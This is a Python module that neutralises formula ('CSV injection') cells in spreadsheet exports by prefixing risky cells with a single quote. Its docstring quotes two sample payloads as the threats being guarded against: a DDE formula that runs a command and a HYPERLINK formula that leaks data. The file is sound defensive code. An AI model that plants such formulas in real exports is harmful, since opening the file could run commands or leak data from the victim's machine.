"""CSV cells that a spreadsheet cannot run (formula / "CSV injection", OWASP; docs/security.md §10).

Excel, WPS and LibreOffice treat a cell whose first character is = + - @ as a formula (and may drop a leading
TAB or CR first):
a 公文 title ``=cmd|' /C calc'!A0`` or ``=HYPERLINK("http://…?"&A1)`` in an export would run or leak when the
file is opened. Every CSV writer passes each cell through ``csv_cell``: such a cell gets a leading single quote,
which the spreadsheet takes as "this is text". Numbers the code itself writes (int, Decimal, float) stay as they
are. The full-width forms ＝ ＋ － ＠ are quoted too: spreadsheets with an East-Asian input method may turn them
into the ASCII ones, and a title starting with one is rare enough that the quote costs nothing.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")


def csv_cell(value: Any) -> Any:
    """``value`` ready for ``csv.writer``: None → "", own numbers unchanged, text quoted when a formula could start."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if text and text[0] in FORMULA_STARTS:
        return "'" + text
    return text


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]
